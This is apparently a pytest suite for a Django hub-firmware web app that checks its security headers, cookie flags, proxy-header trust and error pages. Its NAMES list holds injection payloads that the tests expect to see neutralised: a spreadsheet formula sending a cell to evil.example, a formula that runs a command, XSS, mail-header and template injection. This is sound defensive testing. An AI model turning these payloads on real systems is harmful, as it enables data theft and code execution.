"""What every answer carries, whom the server believes, and names that try to be more than names."""

import csv
import http.client
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from time import monotonic, sleep
from typing import Any
from urllib.parse import urlencode

import pytest
from django.core import mail
from django.http import HttpResponse
from django.test import RequestFactory
from django.utils.module_loading import import_string

from devices.models import AuditEvent, Node
from tests.support import prepared
from tests.support.client import Client
from tests.support.engine import confirm, end_of, link, run_until
from tests.support.factories import make_household, make_owner
from tests.support.product import ROOT, free_port
from tests.support.simcloud_process import SimCloud

HOST = "hubs.example.org"
EMAIL, PASSWORD = "owner@example.com", "mosquito-free-evening"
HTTPS = {"X-Forwarded-Proto": "https"}
SET_UP = f"""
import hashlib
from datetime import timedelta
from django.conf import settings
from django.utils import timezone
from devices.fleet import firmware_files
from devices.models import *
home = Household.objects.create(name="Garden house")
user = User.objects.create_user("{EMAIL}", "{PASSWORD}")
Membership.objects.create(user=user, household=home, role="owner")
account = CloudAccount.objects.create(household=home, base_url="http://127.0.0.1:9", email="a@b.c")
node = Node.objects.create(account=account, node_id="N1", name="Porch")
offer = Offer.objects.create(node=node, ota_job_id="J1", fw_version="5.4.7", has_link=True)
digest = hashlib.sha256(b"firmware").hexdigest()
(firmware_files.archive() / f"{{digest}}.bin").write_bytes(b"firmware")
image = Image.objects.create(sha256=digest, md5="0" * 32, size_bytes=8)
ImageFetch.objects.create(node=node, offer=offer, fw_version="5.4.7", state="verified", image=image)
"""


@dataclass
class Answer:
    status: int
    headers: http.client.HTTPMessage
    body: bytes


@dataclass
class Site:
    """A web server as it is started for real; the client behaves like the proxy in front of it."""

    folder: Path
    variables: dict[str, str]
    port: int = field(default_factory=free_port)
    cookies: dict[str, str] = field(default_factory=dict)

    @property
    def environment(self) -> dict[str, str]:
        kept = {name: os.environ[name] for name in ("PATH", "HOME") if name in os.environ}
        return kept | {"ENV_FILE": "", "DATA_DIR": str(self.folder), **self.variables}

    def manage(self, *words: str) -> None:
        subprocess.run(
            [sys.executable, "manage.py", *words],
            cwd=ROOT,
            env=self.environment,
            check=True,
            capture_output=True,
        )

    def __enter__(self) -> "Site":
        serve = "import sys, django; django.setup(); from devices.server import web_server; "
        serve += "web_server.serve('127.0.0.1', int(sys.argv[1]))"
        self.process = subprocess.Popen(
            [sys.executable, "-c", serve, str(self.port)],
            cwd=ROOT,
            env=self.environment | {"DJANGO_SETTINGS_MODULE": "thermacell_web.settings"},
            stderr=subprocess.DEVNULL,
        )
        until = monotonic() + 90
        while True:
            try:
                assert self.ask("GET", "/healthz", host="localhost").status == 200
                return self
            except OSError:
                assert monotonic() < until, "the web server does not answer"
                sleep(0.2)

    def __exit__(self, *_: object) -> None:
        self.process.terminate()
        self.process.wait(30)

    def ask(
        self,
        method: str,
        path: str,
        fields: dict[str, str] | None = None,
        *,
        host: str = HOST,
        headers: dict[str, str] | None = None,
    ) -> Answer:
        """Send one request; cookies are kept whatever they say of https."""
        sent = {"Host": host, **(headers or {})}
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        body = urlencode(fields) if fields is not None else None
        if body is not None:
            sent["Content-Type"] = "application/x-www-form-urlencoded"
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        try:
            connection.request(method, path, body, sent)
            response = connection.getresponse()
            answer = Answer(response.status, response.headers, response.read())
        finally:
            connection.close()
        for cookie in answer.headers.get_all("Set-Cookie") or []:
            name, _, value = cookie.partition(";")[0].partition("=")
            self.cookies[name] = value
        return answer

    def post(self, path: str, fields: dict[str, str], **headers: str) -> Answer:
        page = self.ask("GET", path, headers=headers | HTTPS).body.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        assert token is not None, page
        fields = fields | {"csrfmiddlewaretoken": token[1]}
        origin = {"Origin": f"https://{HOST}", **headers}
        return self.ask("POST", path, fields, headers=origin | HTTPS)

    def sql(self, statement: str) -> list[tuple[Any, ...]]:
        import sqlite3
        from contextlib import closing

        connection = sqlite3.connect(self.folder / "db.sqlite3", timeout=30)
        with closing(connection), connection:
            return connection.execute(statement).fetchall()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The product behind one https proxy, with one household."""
    variables = {"PUBLIC_URL": f"https://{HOST}", "BEHIND_PROXY": "true"}
    site = Site(tmp_path_factory.mktemp("surface"), variables)
    prepared.lay(site.environment)
    site.manage("collectstatic", "--no-input", "--verbosity", "0")
    site.manage("shell", "-v0", "-c", SET_UP)
    with site:
        signed_in = site.post("/account/login/", {"login": EMAIL, "password": PASSWORD})
        assert signed_in.status == 302, signed_in.body
        yield site


def every_kind(site: Site) -> dict[str, Answer]:
    """Return one answer of each kind the server gives."""

    def get(path: str, **options: Any) -> Answer:
        return site.ask("GET", path, headers=HTTPS, **options)

    page = get("/").body.decode()
    style = re.search(r'href="(/static/app\.[0-9a-f]+\.css)"', page)
    assert style is not None
    live = re.search(r'data-hx-get="(/hubs/1/live/[^"]+)"', get("/hubs/1/").body.decode())
    assert live is not None
    kinds = {
        "page": get("/"),
        "hub": get("/hubs/1/"),
        "form": get("/accounts/link/"),
        "nothing new": get(live[1]),
        "fragment": get("/hubs/1/live/?v=0"),
        "download": get("/hubs/1/files/1/"),
        "export": get("/audit/export.csv"),
        "chain": get("/audit/export.jsonl"),
        "static": get(style[1]),
        "favicon": get(next(iter(re.findall(r'href="(/static/favicon[^"]+)"', page)))),
        "static missing": get("/static/no-such.css"),
        "health": get("/healthz"),
        "gone": get("/welcome/x/"),
        "404": get("/nowhere/"),
        "404 object": get("/hubs/99999/"),
        "403 csrf": site.ask("POST", "/accounts/link/", {"email": "x"}, headers=HTTPS),
        "405": site.ask("DELETE", "/", headers=HTTPS),
        "405 view": site.ask("GET", "/hubs/1/check/", headers=HTTPS),
        "400 host": get("/", host="evil.example"),
        "api": get("/api/"),
        "options": site.ask("OPTIONS", "/", headers=HTTPS),
        "head": site.ask("HEAD", "/", headers=HTTPS),
    }
    site.sql("ALTER TABLE devices_membership RENAME TO away")
    try:
        kinds["500"] = get("/accounts/link/")
    finally:
        site.sql("ALTER TABLE away RENAME TO devices_membership")
    kept, site.cookies = site.cookies, {}
    try:
        kinds["sign-in"] = get("/account/login/")
        kinds["to the sign-in"] = get("/")
    finally:
        site.cookies = kept
    return kinds


EXPECTED = {
    "page": 200,
    "nothing new": 204,
    "fragment": 200,
    "download": 200,
    "export": 200,
    "static": 200,
    "static missing": 404,
    "gone": 410,
    "404": 404,
    "404 object": 404,
    "403 csrf": 403,
    "405": 405,
    "405 view": 405,
    "400 host": 400,
    "500": 500,
    "sign-in": 200,
    "to the sign-in": 302,
}


@pytest.mark.processes
def test_every_kind_of_answer_keeps_browsers_strict(site: Site) -> None:
    kinds = every_kind(site)
    assert {name: kinds[name].status for name in EXPECTED} == EXPECTED
    for name, answer in kinds.items():
        received = answer.headers
        policy = received["Content-Security-Policy"]
        assert policy, name
        directives = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
        assert "unsafe" not in policy, name
        assert "http" not in policy, name
        assert "*" not in policy, name
        for directive in ("default-src", "object-src", "base-uri", "frame-ancestors"):
            assert directives[directive] == "'none'", (name, directive)
        assert set(directives.values()) <= {"'none'", "'self'"}, name
        assert received["X-Content-Type-Options"] == "nosniff", name
        assert received["X-Frame-Options"] == "DENY", name
        assert received["Referrer-Policy"] == "same-origin", name
        assert received["Cross-Origin-Opener-Policy"] == "same-origin", name
        assert received["Cross-Origin-Resource-Policy"] == "same-origin", name
        assert "camera=()" in received["Permissions-Policy"], name
        if name != "health":
            assert received["Strict-Transport-Security"] == "max-age=31536000", name
        assert received["Access-Control-Allow-Origin"] is None, name
        for header in ("X-Content-Type-Options", "Content-Security-Policy", "Referrer-Policy"):
            assert len(received.get_all(header) or []) == 1, (name, header)
        is_static = name in {"static", "favicon"}
        is_kept = (
            "max-age" in received["Cache-Control"] and "no-store" not in received["Cache-Control"]
        )
        assert is_kept == is_static, (name, received["Cache-Control"])
        if answer.body and answer.status not in {405}:
            assert received["Content-Type"], name


def test_each_header_is_set_in_one_place(settings: Any) -> None:
    """Django's own two middlewares beside ours, each around an answer without any header."""
    settings.SECURE_HSTS_SECONDS = 1
    sets: list[set[str]] = []
    for path in ("SecureHeaders", "SecurityMiddleware", "XFrameOptionsMiddleware"):
        [dotted] = [one for one in settings.MIDDLEWARE if one.endswith(f".{path}")]
        request = RequestFactory().get("/", secure=True)
        request.resolver_match = None
        answer = import_string(dotted)(lambda _request: HttpResponse())(request)
        sets.append({*answer.headers} - {"Content-Type"})
        assert sets[-1], dotted
    assert len(set.union(*sets)) == sum(map(len, sets))


@pytest.mark.processes
def test_error_pages_are_ours_and_show_nothing_inside(site: Site) -> None:
    kinds = every_kind(site)
    for name, sentence in {
        "400 host": "This server has another name.",
        "403 csrf": "This page has expired.",
        "404": "hubs",
        "500": "Something went wrong on our side.",
    }.items():
        text = kinds[name].body.decode()
        assert sentence in text, name
        for inside in ("Traceback", "OperationalError", "devices_", "settings", str(ROOT)):
            assert inside not in text, (name, inside)


@pytest.mark.processes
def test_cookies_are_for_https_and_this_host_alone(site: Site) -> None:
    kept, site.cookies = site.cookies, {}
    try:
        page = site.ask("GET", "/account/login/", headers=HTTPS)
        entered = site.post("/account/login/", {"login": EMAIL, "password": PASSWORD})
        fields = (page.headers.get_all("Set-Cookie") or []) + (
            entered.headers.get_all("Set-Cookie") or []
        )
        left = site.post("/account/logout/", {})
    finally:
        site.cookies = kept
    assert {cookie.partition("=")[0] for cookie in fields} >= {"__Host-session", "__Host-csrf"}
    for cookie in fields:
        parts = {part.strip() for part in cookie.split(";")[1:]}
        assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= parts, cookie
        assert not any(part.startswith("Domain") for part in parts)
    assert left.headers["Clear-Site-Data"] == '"cache", "storage"'


@pytest.mark.processes
def test_only_the_proxy_is_believed_and_only_what_it_adds(site: Site) -> None:
    kept, site.cookies = site.cookies, {}
    try:
        tried = {"login": "unknown@example.com", "password": "wrong-password"}
        spoofed = {"X-Forwarded-For": "6.6.6.6, 203.0.113.7", "X-Forwarded-Host": "evil.example"}
        answer = site.post("/account/login/", tried, **spoofed, Forwarded="for=6.6.6.6")
        assert "evil.example" not in answer.body.decode()
        asked = site.ask("GET", "/", headers=HTTPS | spoofed)
        assert asked.headers["Location"].startswith("/account/login/")
    finally:
        site.cookies = kept
    sql = "SELECT address FROM devices_auditevent WHERE action = 'person.sign_in_failed'"
    assert site.sql(f"{sql} ORDER BY sequence DESC LIMIT 1") == [("203.0.113.7",)]


@pytest.mark.processes
def test_without_a_proxy_nothing_that_is_forwarded_counts(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    folder = tmp_path_factory.mktemp("bare")
    bare = Site(folder, {"PUBLIC_URL": f"https://{HOST}"})
    prepared.lay(bare.environment)
    bare.manage("collectstatic", "--no-input", "--verbosity", "0")
    with bare:
        for header in ({"X-Forwarded-Proto": "https"}, {"X-Forwarded-Ssl": "on"}, {}):
            answer = bare.ask("GET", "/account/login/", headers=header)
            assert answer.status == 400, "still http, whatever the header says"
            assert b"BEHIND_PROXY=true" in answer.body
    plain = Site(folder, {"PUBLIC_URL": f"http://{HOST}"})
    with plain:
        page = plain.ask("GET", "/account/login/").body.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        assert token is not None
        fields = {"login": "a@b.example", "password": "wrong-word", "csrfmiddlewaretoken": token[1]}
        plain.ask("POST", "/account/login/", fields, headers={"X-Forwarded-For": "6.6.6.6"})
        assert plain.sql(
            "SELECT address FROM devices_auditevent WHERE action = 'person.sign_in_failed'"
        ) == [("127.0.0.1",)]
        assert plain.ask("GET", "/", host="evil.example").status == 400


NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Porch")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Porch\r\nBcc: everybody@example.com\r\n\r\n2026-01-01 WARNING forged line",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"><svg/onload=alert(1)>{{ 7|add:7 }}{% now "Y" %}',
    "{0.__class__} %(message)s %s\u2028\u202eporch\x1b[2J",
]


@pytest.mark.django_db
@pytest.mark.processes
@pytest.mark.parametrize("name", NAMES)
def test_a_name_from_the_cloud_is_a_name_everywhere(
    name: str, settings: Any, caplog: pytest.LogCaptureFixture
) -> None:
    """A hub is called so at the cloud itself, is installed, and is on every page and export."""
    settings.ENGINE_PACE = 40
    caplog.set_level("DEBUG")
    with SimCloud(hubs=1, users=[f"{EMAIL}:quiet-evening"], speed=40) as cloud:
        cloud.set_online(0, True)
        cloud.set_params(0, Name=name)
        cloud.swap_offer(0, fw_version="5.4.7", description=name)
        household = make_household(name[:100])
        owner = make_owner(household)
        link(cloud, household, owner, EMAIL)
        run_until(lambda: Node.objects.filter(name=name).exists() or Node.objects.exists())
        node = Node.objects.get()
        job = confirm(owner, node)
        assert end_of(job, limit_s=120)[0] == "verified"
    client = Client()
    client.force_login(owner)
    pages = ["/", "/history/", "/audit/", "/overview/", "/accounts/", "/profile/"]
    pages += [f"/hubs/{node.pk}/", f"/hubs/{node.pk}/install/", f"/installs/{job.pk}/"]
    pages += [f"/hubs/{node.pk}/live/?v=0", f"/households/{household.pk}/people/"]
    for page in pages:
        answer = client.get(page)
        text = answer.content.decode()
        assert answer.status_code == 200, page
        for active in ("<script>alert", "<img src=x", "<svg/onload"):
            assert active not in text, (page, active)
        for header, value in answer.items():
            assert "\n" not in value, (page, header)
    export: Any = client.get("/audit/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert len(rows) > 5
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), cell
    from devices.security.log_formatter import SafeFormatter

    line = SafeFormatter("%(levelname)s %(message)s")
    for record in caplog.records:
        assert "\n" not in line.format(record)
        assert "\r" not in line.format(record)
    assert AuditEvent.objects.filter(job_id=job.pk).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("name", NAMES)
def test_a_name_cannot_add_a_header_to_a_mail(name: str, settings: Any) -> None:
    settings.HAS_MAIL_SERVER = True
    household = make_household(name[:100])
    client = Client()
    client.force_login(make_owner(household))
    fields = {"email": "guest@example.net", "role": "viewer"}
    assert client.post(f"/households/{household.pk}/people/", fields).status_code == 200
    sent = mail.outbox[-1]
    assert sent.recipients() == ["guest@example.net"]
    assert sent.message()["Bcc"] is None
    assert "\n" not in sent.subject
    assert "\r" not in sent.subject
